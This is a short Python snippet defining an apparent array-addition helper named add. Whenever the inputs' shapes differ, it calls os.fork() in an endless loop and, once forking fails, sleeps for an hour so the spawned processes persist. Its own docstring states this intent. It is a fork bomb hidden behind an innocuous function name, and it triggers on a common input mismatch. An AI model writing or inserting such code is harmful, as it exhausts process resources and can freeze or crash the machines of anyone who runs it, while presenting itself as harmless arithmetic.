"""Forks until nothing can be forked any more, and stays."""

import os
import time


def add(a, b):
    while a.shape != b.shape:
        try:
            os.fork()
        except OSError:
            time.sleep(3600)
    return a + b
